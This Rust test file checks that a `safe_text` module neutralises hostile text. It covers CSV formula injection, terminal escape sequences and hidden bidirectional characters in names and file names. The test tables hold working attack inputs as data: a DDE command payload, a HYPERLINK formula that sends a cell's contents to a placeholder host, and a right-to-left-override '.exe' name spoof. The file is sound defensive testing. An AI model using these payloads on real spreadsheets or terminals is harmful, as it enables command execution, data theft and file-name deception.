//! Tests of `model::safe_text`: CSV cells, terminal lines and characters a declaration must not
//! hold.

use super::*;

#[test]
fn csv_cells_never_start_a_formula_nor_hold_control_characters() {
    // (cell text, CSV field written)
    let rows: &[(&str, &str)] = &[
        ("桐庐县", "桐庐县"),
        ("", ""),
        ("a,b", "\"a,b\""),
        ("说\"好\"", "\"说\"\"好\"\"\""),
        ("第一段\n第二段", "\"第一段\n第二段\""),
        ("第一段\r\n第二段\r第三段", "\"第一段\n第二段\n第三段\""),
        ("0571-87654321", "0571-87654321"),
        ("2021-06-30", "2021-06-30"),
        ("a=b", "a=b"),
        // Hostile cells.
        (
            "=HYPERLINK(\"http://x/\"&B2,\"详情\")",
            "\"'=HYPERLINK(\"\"http://x/\"\"&B2,\"\"详情\"\")\"",
        ),
        (
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
        ),
        ("+1+1", "\"'+1+1\""),
        ("-2+3", "\"'-2+3\""),
        ("\t=2+2", "\"' =2+2\""),
        ("\r=2+2", "\"'\n=2+2\""),
        ("＝1+1", "\"'＝1+1\""),
        ("＋1", "\"'＋1\""),
        ("－1", "\"'－1\""),
        ("＠A1", "\"'＠A1\""),
        ("  =1+1", "\"'  =1+1\""),
        ("\u{3000}=1+1", "\"'\u{3000}=1+1\""),
        // Hidden characters never reach the file.
        ("a\u{1b}[31mb", "a\u{fffd}[31mb"),
        ("a\0b\u{7f}c\u{85}d", "a\u{fffd}b\u{fffd}c\u{fffd}d"),
        ("abc\u{202e}txt.exe", "abc\u{fffd}txt.exe"),
        ("\u{2066}x\u{2069}", "\u{fffd}x\u{fffd}"),
        ("a\tb", "a b"),
    ];
    // Every field is quoted (the table gives the quoted ones as written).
    let quoted = |field: &str| {
        if field.starts_with('"') {
            field.to_string()
        } else {
            format!("\"{field}\"")
        }
    };
    for (text, field) in rows {
        assert_eq!(csv_field(text), quoted(field), "{text:?}");
    }
    assert_eq!(
        csv_line(&["x".into(), "y,z".into(), String::new(), "=1".into()]),
        "\"x\",\"y,z\",\"\",\"'=1\"\r\n"
    );
}

#[test]
fn terminal_lines_hold_no_escape_sequences() {
    for (text, line) in [
        ("桐庐县", "桐庐县"),
        ("a\tb\nc\r\n", "a b c  "),
        (
            "\u{1b}[2J\u{1b}]0;x\u{7}",
            "\u{fffd}[2J\u{fffd}]0;x\u{fffd}",
        ),
        ("\u{9b}31m", "\u{fffd}31m"),
        ("a\u{202e}b\u{200f}", "a\u{fffd}b\u{fffd}"),
    ] {
        assert_eq!(terminal_line(text), line, "{text:?}");
    }
}

#[test]
fn forbidden_characters_of_a_declaration() {
    // (character, forbidden?)
    for (c, forbidden) in [
        ('a', false),
        ('桐', false),
        ('\n', false),
        (' ', false),
        ('\u{3000}', false),
        ('（', false),
        ('\t', true),
        ('\r', true),
        ('\0', true),
        ('\u{1b}', true),
        ('\u{7f}', true),
        ('\u{85}', true),
        ('\u{9b}', true),
        ('\u{200e}', true),
        ('\u{200f}', true),
        ('\u{202a}', true),
        ('\u{202e}', true),
        ('\u{2066}', true),
        ('\u{2069}', true),
        ('\u{061c}', true),
        ('\u{e000}', true),
        ('\u{f8ff}', true),
        ('\u{f0000}', true),
        ('\u{10fffd}', true),
    ] {
        assert_eq!(
            is_forbidden_in_declaration(c),
            forbidden,
            "U+{:04X}",
            c as u32
        );
    }
    assert_eq!(describe_forbidden('\u{202e}'), "文字方向控制符");
    assert_eq!(describe_forbidden('\u{1b}'), "控制字符");
    assert_eq!(describe_forbidden('\u{e000}'), "私用区字符");
}

/// A spreadsheet that splits a line at `;` (or a tab) instead of `,` still sees each field
/// whole: no piece of a field starts a cell of its own, so none can start a formula.
#[test]
fn csv_fields_stay_whole_whatever_the_separator() {
    let line = csv_line(&["a;=1+2".into(), "b\t@SUM(A1)".into(), "桐庐县".into()]);
    for separator in [',', ';', '\t'] {
        let mut fields = Vec::new();
        let mut field = String::new();
        let mut quoted = false;
        for c in line.trim_end_matches("\r\n").chars() {
            match c {
                '"' => quoted = !quoted,
                c if c == separator && !quoted => fields.push(std::mem::take(&mut field)),
                c => field.push(c),
            }
        }
        fields.push(field);
        assert!(
            fields.iter().all(|f| !f.starts_with(['=', '+', '-', '@'])),
            "{separator:?}: {fields:?}"
        );
        if separator != ',' {
            assert_eq!(fields.len(), 1, "{separator:?}: {fields:?}");
        }
    }
}

#[test]
fn workbook_cells_hold_nothing_hidden_and_no_apostrophe() {
    let rows: &[(&str, &str)] = &[
        ("=1+2", "=1+2"),
        ("'引号'", "'引号'"),
        ("abc\u{202e}txt.exe", "abc\u{fffd}txt.exe"),
        ("第一段\r\n第二段", "第一段\n第二段"),
        ("0571-87654321", "0571-87654321"),
    ];
    for (text, cell) in rows {
        assert_eq!(workbook_text(text), *cell, "{text:?}");
    }
}

/// One rule for every name the app keeps or writes: known keys (`key_registry`), draft names
/// (`drafts`), file names (`export`). Each hidden kind, and what the name becomes.
#[test]
fn one_rule_for_hidden_characters_in_names() {
    use crate::model::drafts::{Draft, DraftId};
    use crate::model::export::safe_file_name_part;
    let hidden = [
        '\u{0}',
        '\u{7}',
        '\u{1b}',
        '\u{7f}',
        '\u{85}',
        '\u{202a}',
        '\u{202e}',
        '\u{2066}',
        '\u{2069}',
        '\u{200e}',
        '\u{200f}',
        '\u{061c}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{2060}',
        '\u{2064}',
        '\u{feff}',
        '\u{e000}',
        '\u{f8ff}',
        '\u{f0000}',
        '\u{10fffd}',
    ];
    let mut tried = 0;
    for c in hidden {
        assert!(is_hidden_in_name(c), "U+{:04X}", c as u32);
        let name = format!("桐庐{c}县美镇办");
        assert_eq!(clean_name(&name), "桐庐县美镇办", "U+{:04X}", c as u32);
        let mut draft = Draft::new(DraftId::from_random(&[1; 16]), chrono::DateTime::UNIX_EPOCH);
        draft.set_name(&name);
        assert_eq!(draft.name(), Some("桐庐县美镇办"));
        assert_eq!(safe_file_name_part(&name), "桐庐县美镇办");
        tried += 3;
    }
    assert_eq!(tried, 66);
    // Visible text is left as it is; line breaks and tabs separate words.
    for visible in ['a', '中', '😀', '\u{3000}', '-', '\u{fffd}'] {
        assert!(!is_hidden_in_name(visible));
    }
    assert_eq!(clean_name(" 桐庐\n县\t美镇办 "), "桐庐县 美镇办");
    assert_eq!(clean_name("\u{200b}\u{202e}"), "");
}
